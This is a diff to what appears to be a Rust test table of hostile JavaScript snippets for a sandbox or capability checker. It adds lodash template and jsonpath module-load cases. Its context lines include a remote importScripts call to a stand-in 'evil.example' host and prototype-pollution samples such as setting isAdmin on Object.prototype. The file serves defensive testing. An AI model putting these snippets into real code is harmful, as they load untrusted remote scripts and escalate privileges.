@@ -169,6 +169,17 @@ const HOSTILE: &[(&str, &str, Capability)] = &[
         "importScripts('https://evil.example/x.js')",
         ModuleLoad,
     ),
+    (
+        "script",
+        "const _ = require('lodash'); _.template(text)({})",
+        DynamicCode,
+    ),
+    ("script", "require('lodash/template')(text)", ModuleLoad),
+    (
+        "script",
+        "const jp = require('jsonpath'); jp.query(o, path)",
+        ModuleLoad,
+    ),
     // Prototype chain.
     ("script", "Object.prototype.isAdmin = true", PrototypeChain),
     ("script", "obj.__proto__.polluted = 1", PrototypeChain),
